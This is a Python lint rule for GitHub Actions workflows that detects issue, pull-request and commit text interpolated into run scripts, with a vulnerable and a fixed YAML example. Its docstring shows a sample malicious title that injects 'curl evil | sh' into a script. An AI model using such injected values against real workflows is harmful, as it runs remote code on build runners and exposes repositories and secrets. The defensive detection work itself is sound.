"""Text of issues, pull requests, comments and commits must not be put into a script by `${{ }}`.

An expression is replaced before the shell reads the script: a title such as `"; curl evil | sh; "`
becomes a command. Give the text to the script in a variable of the environment, which the shell
does not read as code. `toJSON(…)` does not help, nor does quoting. Scripts of actions such as
actions/github-script are checked as well, and variables of `env` read back by `${{ env.NAME }}`.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from windlass.lang.diagnostics import Severity
from windlass.lang.expressions.references import references
from windlass.lang.lint.finding import Finding
from windlass.lang.lint.injection import script_uses, tainted_variables
from windlass.lang.lint.rule import Rule
from windlass.lang.lint.taint import untrusted_parts

if TYPE_CHECKING:
    from collections.abc import Iterator

    from windlass.lang.lint.places import ExpressionUse
    from windlass.lang.lint.subject import Subject


def check(subject: Subject) -> Iterator[Finding]:
    """Find untrusted values in scripts, directly or through `env`."""
    for use in script_uses(subject):
        for node, written in untrusted_parts(use.node, use.text):
            yield Finding(
                message=f"`{written}` is written by others and becomes part of the script",
                span=use.span(node.start, node.end),
                hint="put it into `env` and read the variable in the script, in double quotes",
            )
        yield from _check_variables(subject, use)


def _check_variables(subject: Subject, use: ExpressionUse) -> Iterator[Finding]:
    for found in references(use.node):
        if found.context != "env" or len(found.path) != 2:
            continue
        source = tainted_variables(subject, use.place).get(found.path[1] or "")
        if source is not None:
            yield Finding(
                message=f"`env.{found.path[1]}` holds `{source}`, which others write, "
                "and becomes part of the script",
                span=use.span(found.start, found.end),
                hint=f'read the variable in the script: "${found.path[1]}"',
            )


RULE = Rule(
    code="untrusted-input",
    severity=Severity.ERROR,
    summary="text that anybody can write becomes part of a script",
    text=__doc__ or "",
    before="""\
on: issues
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.issue.title }}"
""",
    after="""\
on: issues
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: ${{ github.event.issue.title }}
        run: echo "$TITLE"
""",
    check=check,
    is_for_actions=True,
)
